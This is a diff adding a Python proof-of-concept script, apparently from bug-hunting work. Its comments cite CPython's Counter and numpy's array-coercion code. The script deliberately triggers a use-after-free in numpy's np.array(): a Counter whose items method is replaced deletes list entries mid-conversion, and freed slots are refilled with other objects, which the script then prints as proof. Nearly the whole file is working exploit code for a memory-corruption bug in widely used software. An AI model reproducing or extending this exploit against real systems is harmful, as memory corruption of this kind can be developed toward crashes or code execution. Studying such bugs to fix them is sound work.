@@ -1,0 +1,55 @@
+# source: cpython Lib/collections/__init__.py Counter.__add__/__sub__/__pos__/__neg__ iterate self.items() (an instance attribute of a Counter shadows the dict method); numpy array_coercion.c PyArray_AssignFromCache_Recursive
+# family: conversion (__float__) does arithmetic (CNT - CNT) on a Counter whose items is replaced by a script function (no operator of the script's, so arithmetic is allowed)
+# goal: the function deletes list items numpy still reads and refills their memory: numpy converts objects never in the list (use-after-free)
+import sys
+import numpy as np
+import pandas as pd
+
+import collections
+DONE = []
+KEEP = []
+
+
+def pick():
+    if not DONE:
+        DONE.append(1)
+        # numpy read the length (64) once and reads items by index: free items 32..63
+        del LST[32:]
+        # new objects of the same size take the freed objects' memory
+        k = 0
+        while k < 40:
+            KEEP.append(B(1000.0 + k))
+            k += 1
+    return []
+
+
+CNT = collections.Counter()
+CNT.items = pick
+
+
+class B:
+    __slots__ = ("v",)
+
+    def __init__(self, w):
+        self.v = w
+
+    def __float__(self):
+        return self.v
+
+
+class A:
+    __slots__ = ("v",)
+
+    def __init__(self, v):
+        self.v = v
+
+    def __float__(self):
+        return float(len(CNT - CNT)) + self.v
+
+
+LST = list(tuple(A(float(i)) for i in range(64)))
+arr = np.array(LST, dtype=float)
+print("np.array(LST) gave", len(arr), "values; LST now has", len(LST), "items")
+print("values:", arr)
+print("values >= 1000 come from B objects never in LST (freed A slots reused):", int((arr >= 1000).sum()))
+sys.stdout.flush()
